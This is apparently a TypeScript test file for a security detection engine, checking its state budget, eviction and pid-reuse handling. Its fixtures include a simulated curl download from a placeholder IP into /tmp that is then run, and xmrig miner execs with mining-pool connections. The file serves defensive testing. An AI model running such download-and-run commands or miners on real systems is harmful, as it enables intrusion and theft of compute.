import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AncestorV1, EventV1 } from '@vigil/schema';
import { DetectionEngine } from './engine.js';
import { defineDetection, type AnyDetection } from './define.js';
import { alwaysFires, asLoaded, builtinEngine, connect, exec, exited, gpu, TEST_CONFIG } from './testing.js';

const MiB = 1024 * 1024;

/** The chain of the built-in tests: a shell under the job downloads, runs from /tmp, starts compute. */
function chainEvents(shellPid: number, start = (_n: number): string | null => null): EventV1[] {
  const shell: AncestorV1 = { pid: shellPid, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash', '-c', '…'] };
  const job: AncestorV1[] = [{ pid: 4000, comm: 'python3', exe: '/usr/bin/python3.11', argv: ['python3', 'train.py'] }];
  return [
    exec(['curl', '-so', '/tmp/.cache/x', 'http://203.0.113.9/x'], {
      pid: shellPid + 1,
      ancestry: [shell, ...job],
      startTs: start(1),
    }),
    exec(['/tmp/.cache/x'], { pid: shellPid + 2, ancestry: [shell, ...job], startTs: start(2) }),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
      pid: shellPid + 2,
      exe: '/tmp/.cache/x',
      comm: 'x',
      ancestry: [shell, ...job],
      startTs: start(2),
    }),
  ];
}

test('an exec storm of long command lines stays within the state budget, evictions counted; chains of recent processes still fire', () => {
  let now = 1_000_000;
  const budget = 16 * MiB;
  const { engine, alerts } = builtinEngine(undefined, { stateBudgetBytes: budget, now: () => now });
  // 200,000 execs of ~2 KB command lines under a few hundred shells: over a GB of history held whole.
  // Underscores: no dotted names or base64 for the built-ins' argv scans to chew on (they are not what is measured).
  const payload = 'ab_'.repeat(340);
  let peak = 0;
  for (let i = 0; i < 200_000; i += 1000) {
    engine.process(
      Array.from({ length: 1000 }, (_, j) => {
        const pid = 10_000 + i + j;
        const shell: AncestorV1 = {
          pid: 2 + (pid % 300),
          comm: 'bash',
          exe: '/usr/bin/bash',
          argv: ['bash', '-c', `run ${payload}`],
        };
        return exec(['/usr/bin/worker', `--job=${payload}${pid}`, '--out', '/scratch/out'], {
          pid,
          startTs: String(pid),
          ancestry: [shell],
        });
      }),
    );
    now += 50;
    if (i % 20_000 === 0) engine.tick();
    peak = Math.max(peak, engine.stateStats.bytes);
    assert.ok(engine.stateStats.bytes <= budget, `${engine.stateStats.bytes} bytes held after ${i + 1000} execs`);
  }
  const stats = engine.stateStats;
  assert.ok(peak > budget / 2, `the storm filled the budget (peak ${peak})`);
  assert.ok(stats.evicted.bytes > 100_000, `processes evicted for bytes are counted: ${JSON.stringify(stats)}`);
  assert.equal(stats.budgetBytes, budget);
  assert.deepEqual(
    alerts.map((a) => a.ruleId),
    [],
    'the storm itself is benign',
  );
  // Right after the storm, a chain in one job still makes its story.
  engine.process(chainEvents(900_000));
  assert.ok(
    alerts.some((a) => a.ruleId === 'chain.shell-download-run'),
    alerts.map((a) => a.ruleId).join(','),
  );
  assert.ok(engine.stateStats.bytes <= budget);
});

test('state is let go when processes exit (after a short grace) or go idle, not at the next eviction', () => {
  let now = 1_000_000;
  const { engine } = builtinEngine(undefined, { now: () => now });
  const events: EventV1[] = [];
  for (let pid = 10_000; pid < 12_000; pid++)
    events.push(exec(['/bin/true', 'ab_'.repeat(340)], { pid, startTs: String(pid) }));
  for (let pid = 10_000; pid < 11_000; pid++) events.push(exited(0, { pid, startTs: String(pid) }));
  engine.process(events);
  const full = engine.stateStats;
  assert.ok(full.processes >= 2000, `${full.processes} processes`);
  now += 10_000;
  engine.tick();
  assert.equal(
    engine.stateStats.released.exited,
    0,
    'late records of other probes still find an exited process for a while',
  );
  now += 60_000;
  engine.tick();
  const afterExit = engine.stateStats;
  assert.equal(afterExit.released.exited, 1000, 'the exited thousand are gone a minute after their exit');
  assert.ok(afterExit.bytes < full.bytes * 0.6, `${afterExit.bytes} of ${full.bytes} bytes still held`);
  now += 16 * 60_000;
  engine.tick();
  const idle = engine.stateStats;
  assert.equal(idle.processes, 0, 'the idle ones go after the TTL');
  assert.equal(idle.bytes, 0);
  assert.ok(idle.released.aged >= 1000);
  assert.equal(idle.evicted.bytes + idle.evicted.processes, 0, 'none of it took an eviction');
});

test("a process that takes a miner's pid (another start time) inherits nothing: no pool-connect, its own throttle window", () => {
  const P = 31_337;
  const miner = { pid: P, startTs: '1000000000000000000' };
  const benign = {
    pid: P,
    startTs: '1000000005000000000',
    exe: '/usr/bin/python3',
    comm: 'python3',
    argv: ['python3', 'serve.py'],
  };
  const { engine, alerts } = builtinEngine();
  engine.process([exec(['xmrig', '--donate-level=1'], { ...miner, exe: '/usr/bin/xmrig' }), exited(0, miner)]);
  assert.deepEqual(
    alerts.map((a) => a.ruleId),
    ['miner.exec'],
  );
  engine.process([connect('10.0.0.5', 3333, benign)]);
  assert.deepEqual(
    alerts.map((a) => a.ruleId),
    ['miner.exec'],
    'the benign process on a pool port is not the flagged miner',
  );
  // Its exit lost, the pid taken again: the start time still tells them apart.
  const lost = builtinEngine();
  lost.engine.process([exec(['xmrig'], { ...miner, exe: '/usr/bin/xmrig' }), connect('10.0.0.5', 3333, benign)]);
  assert.deepEqual(
    lost.alerts.map((a) => a.ruleId),
    ['miner.exec'],
  );
  // The miner itself (same start time) still raises it; the same rule for two processes of one pid is two alerts.
  const same = builtinEngine();
  same.engine.process([
    exec(['xmrig'], { ...miner, exe: '/usr/bin/xmrig' }),
    exec(['xmrig'], { ...benign, exe: '/usr/bin/xmrig', argv: ['xmrig'] }),
  ]);
  assert.deepEqual(
    same.alerts.map((a) => [a.ruleId, a.count]),
    [
      ['miner.exec', 1],
      ['miner.exec', 1],
    ],
    'not one alert counted twice',
  );
  same.engine.process([
    connect('10.0.0.5', 3333, { ...miner, exe: '/usr/bin/python3', comm: 'python3', argv: ['python3'] }),
  ]);
  assert.ok(
    same.alerts.some((a) => a.ruleId === 'miner.pool-connect'),
    'a late connect of the flagged miner still finds its flag',
  );
});

test('without start times, an exec or an exit ends what a pid held', () => {
  const P = 31_338;
  const benign = { pid: P, exe: '/usr/bin/python3', comm: 'python3', argv: ['python3', 'serve.py'] };
  const { engine, alerts } = builtinEngine();
  engine.process([
    exec(['xmrig'], { pid: P, exe: '/usr/bin/xmrig' }),
    exec(['python3', 'serve.py'], benign),
    connect('10.0.0.5', 3333, benign),
  ]);
  assert.deepEqual(
    alerts.map((a) => a.ruleId),
    ['miner.exec'],
    'a new exec on the pid',
  );
  const forked = builtinEngine();
  forked.engine.process([
    exec(['xmrig'], { pid: P, exe: '/usr/bin/xmrig' }),
    exited(0, { pid: P }),
    connect('10.0.0.5', 3333, benign),
  ]);
  assert.deepEqual(
    forked.alerts.map((a) => a.ruleId),
    ['miner.exec'],
    'the miner exited; what connects now is another process',
  );
  const live = builtinEngine();
  live.engine.process([exec(['xmrig'], { pid: P, exe: '/usr/bin/xmrig' }), connect('10.0.0.5', 3333, benign)]);
  assert.deepEqual(
    live.alerts.map((a) => a.ruleId),
    ['miner.exec', 'miner.pool-connect'],
    'the live miner keeps its flag',
  );
});

test('GPU devices and chains are not inherited across pid reuse', () => {
  const P = 7002;
  const { engine, alerts } = builtinEngine();
  const first = { pid: P, startTs: '100', exe: '/tmp/a', comm: 'a' };
  const context = gpu('NV_ESC_RM_ALLOC', null, first);
  if (context.kind === 'gpu') context.gpu.device = '/dev/nvidia3';
  engine.process([context, exited(0, first)]);
  engine.process([gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', { pid: P, startTs: '200', exe: '/tmp/b', comm: 'b' })]);
  const gpuAlert = alerts.find((a) => a.ruleId === 'gpu.unexpected-process');
  assert.ok(gpuAlert);
  assert.doesNotMatch(gpuAlert.reason, /nvidia3/, 'the GPU another process of that pid used');
  // A shell downloaded and exited; another shell took its pid and runs a binary from /tmp.
  const chained = builtinEngine();
  const [download] = chainEvents(5000, (n) => String(100 + n));
  chained.engine.process([download!, exited(0, { pid: 5000, startTs: '100', comm: 'bash', exe: '/usr/bin/bash' })]);
  const otherShell = exec(['bash'], { pid: 5000, startTs: '300', comm: 'bash', exe: '/usr/bin/bash' });
  const [, run, compute] = chainEvents(5000, (n) => String(300 + n));
  chained.engine.process([otherShell, run!, compute!]);
  assert.deepEqual(
    chained.alerts.map((a) => a.ruleId),
    ['gpu.unexpected-process'],
    "no chain from the other shell's download",
  );
  // The same shell, alive: the chain fires.
  const whole = builtinEngine();
  whole.engine.process(chainEvents(5000, (n) => String(100 + n)));
  assert.ok(whole.alerts.some((a) => a.ruleId === 'chain.shell-download-run'));
});

test('past the 50,000-process bound the oldest histories go, with their flags; recent ones stay whole', () => {
  const seen: { recent: number; flagged: boolean }[] = [];
  const probe = defineDetection({
    id: 'probe',
    title: 'probe',
    severity: 'low',
    mitre: [],
    on: ['exec'],
    match: (ev, ctx) => {
      if (ev.proc.argv[0] === 'look') {
        for (const pid of [1000, 1000 + 59_999])
          seen.push({ recent: ctx.recent(ev.host, pid).length, flagged: ctx.flagged(ev.host, pid).size > 0 });
        return null;
      }
      return ev.proc.pid === 1000 || ev.proc.pid === 1000 + 59_999 ? { reason: 'mark' } : null;
    },
  }) as AnyDetection;
  const engine = new DetectionEngine({ config: TEST_CONFIG, onAlert: () => {}, throttleMs: 0 });
  engine.setDetections([{ detection: probe, source: 'builtin', author: null, origin: 'test' }]);
  for (let i = 0; i < 60_000; i += 1000)
    engine.process(Array.from({ length: 1000 }, (_, j) => exec(['/bin/true'], { pid: 1000 + i + j, ppid: 999 })));
  engine.process([exec(['look'], { pid: 5, ppid: 1 })]);
  assert.deepEqual(
    seen,
    [
      { recent: 0, flagged: false },
      { recent: 1, flagged: true },
    ],
    'the first process is gone with its flag; the last is kept with its own',
  );
});

test('flags raised for processes no event brought (a SQL detection) go with the same bound as histories', () => {
  const seen: boolean[] = [];
  const probe = defineDetection({
    id: 'probe',
    title: 'probe',
    severity: 'low',
    mitre: [],
    on: ['exec'],
    match: (ev, ctx) => {
      for (const pid of [1000, 1000 + 59_999]) seen.push(ctx.flagged(ev.host, pid).has('sql.rule'));
      return null;
    },
  }) as AnyDetection;
  const engine = new DetectionEngine({ config: TEST_CONFIG, onAlert: () => {}, throttleMs: 0 });
  engine.setDetections([asLoaded(probe)]);
  const sql = { detection: { ...alwaysFires('sql.rule'), id: 'sql.rule' }, source: 'sql' as const, author: null };
  const proc = exec(['x']).proc;
  for (let i = 0; i < 60_000; i++) engine.raise(sql, 'h', { ...proc, pid: 1000 + i }, '1', [], { reason: 'row' });
  engine.process([{ ...exec(['look'], { pid: 5 }), host: 'h' }]);
  assert.deepEqual(seen, [false, true], 'the first flag went with the bound; the last is kept');
});

test('the failed PATH lookups of one execvp and the exec that succeeds are one process, not many', () => {
  const P = 41_001;
  const tries = ['/usr/local/sbin/xmrig', '/usr/local/bin/xmrig', '/usr/sbin/xmrig'];
  const failed = (path: string) => {
    const ev = exec(['xmrig'], { pid: P, exe: '/usr/bin/bash', comm: 'bash', ancestry: [] }, path);
    if (ev.kind === 'exec') ev.exec.ret = -2;
    return ev;
  };
  const { engine } = builtinEngine();
  engine.process([...tries.map(failed), exec(['xmrig'], { pid: P, exe: '/usr/bin/xmrig', ancestry: [] })]);
  assert.equal(engine.stateStats.processes, 1, 'one entry for the pid');
  // Another execvp on the same pid after a successful one is a new program: a new entry, as before.
  engine.process([
    failed('/usr/local/bin/python3'),
    exec(['python3'], { pid: P, exe: '/usr/bin/python3', ancestry: [] }),
  ]);
  assert.equal(engine.stateStats.processes, 2, 'the next image starts its own entry');
});

test("forgetting a host's state (its partition went to another replica) lets go of its processes only, uncounted", () => {
  const { engine } = builtinEngine();
  engine.process([exec(['ls'], { pid: 10 }), { ...exec(['ls'], { pid: 11 }), host: 'h2' }]);
  const before = engine.stateStats;
  assert.ok(before.processes >= 2);
  const forgotten = engine.forgetHosts((h) => h === 'h1');
  assert.ok(forgotten > 0);
  const after = engine.stateStats;
  assert.equal(after.processes, before.processes - forgotten);
  assert.deepEqual(after.released, before.released, 'not counted as released');
  assert.deepEqual(after.evicted, before.evicted, 'nor as evicted');
  assert.equal(
    engine.forgetHosts((h) => h === 'h1'),
    0,
  );
  assert.ok(engine.forgetHosts((h) => h === 'h2') > 0, 'the other host is still held');
});
